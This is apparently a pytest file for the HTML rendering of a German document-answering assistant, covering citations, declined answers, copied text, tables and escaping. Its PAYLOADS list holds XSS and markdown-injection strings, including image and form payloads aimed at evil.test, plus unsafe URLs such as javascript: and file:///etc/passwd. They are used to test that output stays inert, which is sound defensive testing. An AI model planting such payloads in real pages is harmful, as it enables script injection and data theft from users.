"""The conversation as HTML: whatever comes in stays text."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from assistant.domain import (
    Answer,
    AnswerSentence,
    Box,
    Citation,
    CitedPage,
    DocumentSummary,
    Mode,
    SentenceKind,
    Span,
    Status,
    Support,
)
from assistant.feedback import Reason
from ui.conversation import carrier_html, conversation_html
from ui.copying import plain_text, rich_text
from ui.exchange import Contact, Exchange, NearPlace, Offers
from ui.german_typer import say
from ui.page_parts import end_html
from ui.responder import Asked, read_scope, stopped
from ui.scope import scope_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "![x](http://evil.test/?q=geheim)",
    "[a](javascript:alert(1))",
    "</textarea></section><form action=http://evil.test><input>",
    "Zeile\n\n# Überschrift\n\n**fett** $$x$$",
    "<style>body{position:fixed}</style>",
    "&lt;script&gt; &amp;",
]

CITATION = Citation(
    marker=1,
    document="d",
    title="Leitfaden",
    span=Span(start=0, end=4),
    quote="Text",
    section=("Kapitel", "Abschnitt"),
    pages=(CitedPage(number=16, label="12", boxes=(Box(x0=0, y0=0, x1=1, y1=1),)),),
    url="https://example.org/",
    stand="2025-04-29",
    notice="Praxisausgabe",
)

ANSWER = Answer(
    question="Frage?",
    status=Status.ANSWERED,
    mode=Mode.EXTRACTIVE,
    text="Text [1]",
    confidence=0.9,
    sentences=(AnswerSentence(text="Text", citations=(1,), support=Support.VERBATIM),),
    citations=(CITATION,),
)

CONTACT = Contact(name="Fachstelle", mail="hilfe@example.de", phone="0341 1")
OFFERS = Offers(contact=CONTACT, feedback=True)


class Tags(HTMLParser):
    """Collects what a browser would build."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.names: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


def everywhere(payload: str) -> str:
    """A conversation, the choice of documents and the end of the page with ``payload`` in every text."""
    citation = replace(
        CITATION, document=payload, title=payload, quote=payload, section=(payload,), stand=payload, notice=payload,
        pages=(CitedPage(number=1, label=payload),),
    )  # fmt: skip
    sentence = AnswerSentence(text=payload, citations=(1,), support=Support.UNSUPPORTED)
    answer = replace(
        ANSWER, question=payload, text=payload, sentences=(sentence,), citations=(citation,), note=payload,
        read_as=payload,
    )  # fmt: skip
    declined = replace(answer, status=Status.DECLINED, citations=(), sentences=(), suggestions=(payload, "Anderswo"))
    place = NearPlace(words=payload, document=payload, address="/dokumente/d", faq=payload)
    other = replace(place, words="Anderswo", faq="")
    asked = Exchange(question=payload, key="k", documents=(payload, "d"), scope=(payload,) * 5, replaces=payload)
    exchanges = [
        replace(asked, answer=answer, related=(payload,)),
        replace(asked, answer=declined, nearest=(place, other)),
        replace(asked, error=payload, sentences=(sentence,)),
        replace(asked, sentences=(sentence,)),
    ]
    offers = Offers(contact=Contact(name=payload, mail="hilfe@example.de", phone=payload), feedback=True)
    documents = [summary(payload, title=payload, stand=payload) for _ in range(20)]
    return carrier_html(exchanges, offers) + scope_html(documents) + end_html(documents)


def summary(id: str, *, title: str = "Titel", kind: str = "faq", stand: str = "") -> DocumentSummary:
    """A document in a list."""
    return DocumentSummary(id=id, title=title, kind=kind, url="", stand=stand, sha256="", pages=0, characters=1)


def html_of(*exchanges: Exchange, offers: Offers = OFFERS) -> str:
    """The conversation as the page gets it."""
    return conversation_html(exchanges, offers)


def commands(html: str) -> list[dict[str, object]]:
    """What the buttons in a conversation ask."""
    return [json.loads(value or "") for name, value in Tags(html).attributes if name == "data-command"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_payload_stays_text_wherever_it_comes_from(payload: str) -> None:
    harmless, attacked = Tags(everywhere("Text")), Tags(everywhere(payload))

    assert attacked.names == harmless.names
    assert not [name for name, _ in attacked.attributes if name.startswith("on")]
    assert " ".join(payload.split()) in attacked.text
    # A blank line would end the HTML block, and what follows would be read as Markdown.
    assert "\n" not in everywhere(payload)


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", "file:///etc/passwd", "", "//evil.test"])
def test_only_web_addresses_become_links(url: str) -> None:
    html = html_of(Exchange(question="?", answer=replace(ANSWER, citations=(replace(CITATION, url=url),))))

    assert "Quelle im Netz öffnen" not in html


def test_a_source_names_title_section_pages_date_notice_and_quote() -> None:
    text = Tags(html_of(Exchange(question="Frage?", answer=ANSWER))).text

    for part in (
        "Leitfaden", "Kapitel › Abschnitt", "S. 12 (PDF-Seite 16)", "Stand 29.04.2025", "Hinweis: Praxisausgabe",
        "„Text“", "✓ wörtlich", "Beantwortet · wörtlich aus den Quellen · Verlässlichkeit hoch (90 %)",
    ):  # fmt: skip
        assert part in text


def test_every_mark_leads_to_its_source() -> None:
    html = html_of(Exchange(question="?", answer=ANSWER), Exchange(question="?", answer=ANSWER))

    targets = re.findall(r'href="#([^"]+)"', html)
    ids = re.findall(r' id="([^"]+)"', html)
    assert len(targets) == len(set(targets)) == 2
    assert set(targets) <= set(ids)
    assert len(ids) == len(set(ids))


@pytest.mark.parametrize(
    ("support", "words"),
    [
        (Support.VERBATIM, "✓ wörtlich"),
        (Support.SUPPORTED, "≈ belegt"),
        (Support.UNSUPPORTED, "✗ nicht belegt"),
    ],
)
def test_every_sentence_says_how_far_it_is_proven(support: Support, words: str) -> None:
    sentence = AnswerSentence(text="Text", citations=(1,), support=support)

    assert words in Tags(html_of(Exchange(question="?", answer=replace(ANSWER, sentences=(sentence,))))).text


def test_what_holds_for_all_sentences_is_told_once_and_any_other_verdict_beside_its_sentence() -> None:
    def shown(*supports: Support) -> str:
        sentences = tuple(AnswerSentence(text="Text", citations=(1,), support=support) for support in supports)
        html = html_of(Exchange(question="?", answer=replace(ANSWER, sentences=sentences)))
        return Tags(re.sub(r'<span class="fs-unseen">[^<]*</span>', "", html)).text

    assert shown(Support.VERBATIM, Support.VERBATIM).count("wörtlich in") == 1
    assert "✓ Alle Sätze stehen wörtlich in den Quellen" in shown(Support.VERBATIM, Support.VERBATIM)
    assert "✓ Der Satz steht wörtlich in der Quelle" in shown(Support.VERBATIM)
    assert "≈ Alle Sätze sind durch die Quellen belegt" in shown(Support.SUPPORTED, Support.SUPPORTED)
    mixed = shown(Support.VERBATIM, Support.SUPPORTED, Support.UNSUPPORTED)
    assert "≈ belegt" in mixed
    assert "✗ nicht belegt" in mixed
    assert "Sätze" not in mixed
    assert "✓ wörtlich" not in mixed


def test_a_declined_question_offers_places_documents_and_an_email() -> None:
    declined = replace(
        ANSWER, status=Status.DECLINED, sentences=(), citations=(), suggestions=("Leitfaden › A", "FAQ › B")
    )
    exchange = Exchange(
        question="Was & wer?",
        key="k",
        documents=("eins",),
        scope=("Dokument Eins",),
        answer=declined,
        nearest=(
            NearPlace(words="Leitfaden › A", document="l", address="/dokumente/l?seite=2"),
            NearPlace(words="FAQ › B", document="f", address="/dokumente/f", faq="Was ist B?"),
        ),
    )
    html = html_of(exchange)

    assert 'href="/dokumente/l?seite=2"' in html
    assert "Gesucht in: „Dokument Eins“" in Tags(html).text
    assert commands(html) == [
        {"question": "Was & wer?", "documents": [], "replaces": "k"},
        {"question": "Was & wer?", "documents": ["l"], "replaces": "k"},
        {"question": "Was ist B?"},
    ]
    begun = "Guten Tag,\n\nauf diese Frage habe ich im Assistenten Fundstelle keine ausreichende Antwort gefunden:"
    body = f"{begun}\n\nWas & wer?"
    assert body in Tags(html).text
    assert "Gesucht wurde in: Dokument Eins." in Tags(html).text
    assert 'href="mailto:hilfe@example.de?subject=Frage%20zum%20INSEK&amp;body=Guten%20Tag%2C%0D%0A' in html
    assert "Was%20%26%20wer%3F" in html


def test_places_that_are_known_by_words_alone_are_shown_as_text() -> None:
    declined = replace(ANSWER, status=Status.DECLINED, sentences=(), citations=(), suggestions=("Leitfaden › A",))

    assert "<li>Leitfaden › A</li>" in html_of(Exchange(question="?", answer=declined))


def test_without_a_contact_there_is_no_email() -> None:
    declined = Exchange(question="?", answer=replace(ANSWER, status=Status.DECLINED, sentences=(), citations=()))

    assert "mailto:" not in html_of(declined, offers=Offers())
    assert "Weiter hilft" not in html_of(declined, offers=Offers())
    assert "mailto:" not in html_of(declined, offers=Offers(contact=replace(CONTACT, mail="")))


def test_feedback_is_asked_for_only_where_it_is_wanted() -> None:
    answered = Exchange(question="Frage?", answer=ANSWER)

    assert "War das hilfreich?" not in html_of(answered, offers=Offers(contact=CONTACT))
    assert "War das hilfreich?" in html_of(answered)
    for reason in Reason:
        declined = replace(answered, answer=replace(ANSWER, status=Status.DECLINED))
        assert say("feedback", f"reason_{reason}") in Tags(html_of(answered) + html_of(declined)).text


def test_an_error_and_a_stop_keep_what_was_shown_and_can_be_asked_again() -> None:
    midway = Exchange(question="Frage?", key="k", documents=("d",), sentences=ANSWER.sentences)
    (given_up,) = stopped([midway])
    html = html_of(given_up)

    assert "Text" in Tags(html).text
    assert "unvollständig" in Tags(html).text
    again = {"question": "Frage?", "documents": ["d"], "replaces": "k"}
    assert commands(html) == [again, {**again, "documents": []}]
    assert stopped([replace(midway, answer=ANSWER)]) == [replace(midway, answer=ANSWER)]


def test_a_screen_reader_is_told_status_answer_and_number_of_sources() -> None:
    (spoken,) = [v for n, v in Tags(html_of(Exchange(question="?", answer=ANSWER))).attributes if n == "data-spoken"]

    assert spoken == "Beantwortet. Text Mit einer Quelle."


def test_a_copied_answer_carries_question_sources_links_and_says_that_an_ai_made_it() -> None:
    copied = plain_text(ANSWER, ("Leitfaden",))

    assert copied.startswith("Frage?\n\nText [1]\n\nQuellen\n")
    assert (
        "[1] Leitfaden, Kapitel › Abschnitt, S. 12 (PDF-Seite 16), Stand 29.04.2025: „Text“\n"
        "/dokumente/d?seite=16&end=4\nhttps://example.org/\n"
    ) in copied
    assert "Gesucht in: Leitfaden" in copied
    assert "Hinweis: Praxisausgabe" in copied
    assert "KI-System" in copied


def test_a_follow_up_is_shown_and_copied_with_what_it_was_understood_with() -> None:
    answer = replace(ANSWER, question="Und wer zahlt?", read_as="Was kostet das? Und wer zahlt?")
    told = "Verstanden als: „Was kostet das? Und wer zahlt?“"

    assert told in Tags(html_of(Exchange(question="Und wer zahlt?", answer=answer))).text
    assert plain_text(answer).startswith(f"Und wer zahlt?\n{told}\n\nText [1]")
    assert told in Tags(rich_text(answer)).text
    assert "Verstanden" not in html_of(Exchange(question="?", answer=ANSWER)) + plain_text(ANSWER) + rich_text(ANSWER)


def test_a_copied_answer_keeps_its_list_and_its_table_in_a_word_processor() -> None:
    quotes = [
        ("A & B", words) for words in ("Nötig sind:", "ein <Plan>,", "Satz: 1 %; Ab: 2024", "Satz: 2 %; Ab: 2025")
    ]
    kinds = [SentenceKind.PROSE, SentenceKind.ITEM, SentenceKind.ROW, SentenceKind.ROW]
    copied = Tags(rich_text(answer_of(*quotes, kinds=kinds), ("Leitfaden",)))

    assert copied.names.count("li") == 1
    assert [copied.names.count(name) for name in ("table", "th", "tr", "td")] == [1, 2, 3, 4]
    assert ("border", "1") in copied.attributes
    assert "ein <Plan>, [2]" in copied.text
    assert "[1] [2] [3] [4] Leitfaden, A & B, S. 12 (PDF-Seite 16), Stand 29.04.2025Stelle" in copied.text
    written = replace(ANSWER, sentences=(replace(ANSWER.sentences[0], text="Anders gesagt."),))
    assert "Stand 29.04.2025: „Text“" in Tags(rich_text(written)).text
    assert ("href", "/dokumente/d?seite=16&end=4") in copied.attributes
    assert "✓" not in copied.text
    assert "KI-System" in copied.text


def test_documents_are_chosen_in_groups_by_kind() -> None:
    documents = [summary("l", kind="guideline"), *(summary(f"f{n}") for n in range(3)), summary("x", kind="document")]
    tags = Tags(scope_html(documents))

    assert tags.names.count("fieldset") == 3
    assert [value for name, value in tags.attributes if name == "value"] == ["l", "f0", "f1", "f2", "x"]
    assert "Alle 3 auswählen" in tags.text
    assert "alle 5 Dokumente" in tags.text
    assert "Dokumente filtern" not in tags.text
    assert scope_html(documents[:1]) == ""


@pytest.mark.parametrize(
    "text", ["", "null", "[", "3", '"x"', "{}", '{"question": 1}', '{"question": "?", "replaces": 1}', "[" * 10_000]
)
def test_what_the_script_did_not_write_asks_nothing(text: str) -> None:
    assert Asked.read(text) is None
    assert read_scope(text) == ()


def test_only_words_count_as_documents() -> None:
    assert read_scope('["a", 1, null, "b", "a"]') == ("a", "b")
    assert Asked.read('{"question": "?", "documents": "a"}') == Asked(question="?")


def answer_of(*quotes: tuple[str, str], kinds: Sequence[SentenceKind] = ()) -> Answer:
    """An answer of quotes, each given as its section and its text; prose unless ``kinds`` says otherwise."""
    citations = tuple(
        replace(CITATION, marker=marker, section=(section,), quote=quote)
        for marker, (section, quote) in enumerate(quotes, start=1)
    )
    sentences = tuple(
        AnswerSentence(text=one.quote, citations=(one.marker,), support=Support.VERBATIM, kind=kind)
        for one, kind in zip(citations, kinds or [SentenceKind.PROSE] * len(citations), strict=True)
    )
    return replace(ANSWER, sentences=sentences, citations=citations)


def test_quotes_of_one_section_stand_together_below_its_name() -> None:
    answer = answer_of(("Beschluss", "Erstens."), ("Beschluss", "Zweitens."), ("Kosten", "Drittens."))
    shown = re.findall(
        r'<p class="fs-(from|text)">(.*?)</p>', html_of(Exchange(question="Frage?", key="k", answer=answer))
    )

    assert [kind for kind, _ in shown] == ["from", "text", "from", "text"]
    assert shown[0][1] == "Leitfaden › Beschluss, S. 12 (PDF-Seite 16)"
    assert "Erstens." in shown[1][1]
    assert "Zweitens." in shown[1][1]
    assert "Drittens." in shown[3][1]


def test_an_answer_from_one_section_and_one_that_a_model_wrote_stay_one_paragraph() -> None:
    one = answer_of(("Beschluss", "Erstens."), ("Beschluss", "Zweitens."))
    several = answer_of(("Beschluss", "Erstens."), ("Kosten", "Zweitens."))
    written = replace(
        several, sentences=tuple(replace(sentence, support=Support.SUPPORTED) for sentence in several.sentences)
    )
    for answer in (one, written):
        html = html_of(Exchange(question="Frage?", key="k", answer=answer))
        assert html.count('class="fs-text"') == 1
        assert "fs-from" not in html


def test_a_row_of_a_table_is_shown_cell_by_cell() -> None:
    row = "Programm: LZP; Satz: zwei Drittel; ein Drittel trägt die Stadt"
    html = html_of(Exchange(question="Frage?", key="k", answer=answer_of(("Sätze", row))))

    assert '<span class="fs-cell"><b>Satz:</b> zwei Drittel; ein Drittel trägt die Stadt</span>' in html
    assert f"„{row}“" in Tags(html).text
    assert "fs-cell" not in html_of(Exchange(question="Frage?", answer=answer_of(("A", "Anlass: Warum jetzt?"))))


def typed(*sentences: tuple[str, SentenceKind]) -> Answer:
    """An answer of quotes of these kinds, all from one section."""
    return answer_of(*(("Wege", words) for words, _ in sentences), kinds=[kind for _, kind in sentences])


ITEM, ROW = SentenceKind.ITEM, SentenceKind.ROW


def test_items_stand_in_a_list_and_rows_with_the_same_headings_in_a_table() -> None:
    items = [("ein Plan,", ITEM), ("ein Beschluss.", ITEM)]
    rows = [("Satz: 1 %; Ab: 2024", ROW), ("Satz: 2 %; Ab: 2025", ROW)]
    html = html_of(
        Exchange(question="Frage?", key="k", answer=typed(("Nötig sind:", SentenceKind.PROSE), *items, *rows))
    )
    shown = re.findall(r"<(?:li|td|th[^>]*)>(?:<span>)?([^<]+?) ?<", html)

    assert shown == ["ein Plan,", "ein Beschluss.", "Satz", "Ab", "1 %", "2024", "2 %", "2025"]
    assert [f'href="#fs-k-{marker}"' in html for marker in range(1, 6)] == [True] * 5
    assert 'role="group" tabindex="0" aria-label="Zeilen einer Tabelle"' in html


def test_an_item_with_a_mark_of_its_own_gets_no_other() -> None:
    items = (("1. der Antrag,", ITEM), ("b) der Plan,", ITEM), ("ein Foto.", ITEM))
    html = html_of(Exchange(question="Frage?", key="k", answer=typed(*items)))

    assert re.findall(r"<li([^>]*)><span>(\S+)", html) == [
        (' class="fs-marked"', "1."),
        (' class="fs-marked"', "b)"),
        ("", "ein"),
    ]


def test_a_cell_that_looks_like_two_and_an_empty_one_leave_no_table() -> None:
    rows = (
        ("Satz: 1 %; Für: Städte; Ausnahme: Dörfer; Ab: 2024", ROW),
        ("Satz: 2 %; Für: alle; Ab: 2025", ROW),
        ("Satz: 3 %; Ab: 2026", ROW),
    )
    html = html_of(Exchange(question="Frage?", key="k", answer=typed(*rows)))

    assert html.count("<table>") == 1
    assert re.findall(r'<(?:td|th scope="col")>([^<]*?) ?<', html) == [
        *("Satz", "Für", "Ab"),
        *("1 %", "Städte; Ausnahme: Dörfer", "2024"),
        *("2 %", "alle", "2025"),
        *("3 %", "", "2026"),
    ]


def test_columns_of_one_name_keep_their_cells() -> None:
    rows = (("Land: A; Anteil: 66 %; Anteil: 34 %", ROW), ("Land: B; Anteil: 50 %; Anteil: 50 %", ROW))
    html = html_of(Exchange(question="Frage?", key="k", answer=typed(*rows)))

    assert re.findall(r"<td>([^<]*?) ?<", html) == ["A", "66 %", "34 %", "B", "50 %", "50 %"]


def test_what_a_partial_answer_leaves_open_stands_out_and_somebody_is_named() -> None:
    note = "Dieser Teil der Frage ist nicht beantwortet: „Wie hoch?“"
    partial = replace(ANSWER, status=Status.PARTIAL, note=note, suggestions=("Leitfaden › A",))
    html = html_of(Exchange(question="Frage?", key="k", answer=partial))

    assert f'<p class="fs-open"><span aria-hidden="true">◐</span> {note}</p>' in html
    assert "Weiter hilft: Fachstelle" in html
    assert "mailto:" in html
    assert "Noch einmal fragen" not in html


def test_a_partial_answer_offers_no_email_about_what_is_far_from_the_documents() -> None:
    html = html_of(Exchange(question="Frage?", key="k", answer=replace(ANSWER, status=Status.PARTIAL, note="Offen.")))

    assert "Der Assistent kennt nur die eingelesenen Dokumente." in html
    assert "mailto:" not in html


def test_a_notice_that_all_sources_share_is_told_once() -> None:
    same = answer_of(("A", "Erstens."), ("B", "Zweitens."))
    other = replace(same, citations=(same.citations[0], replace(same.citations[1], notice="Entwurf")))

    assert (
        Tags(html_of(Exchange(question="?", key="k", answer=same))).text.count("Praxisausgabe") == 3
    )  # and to copy, twice
    assert "Hinweis zu allen Quellen" not in html_of(Exchange(question="?", key="k", answer=other))
    assert "Hinweis: Entwurf" in html_of(Exchange(question="?", key="k", answer=other))
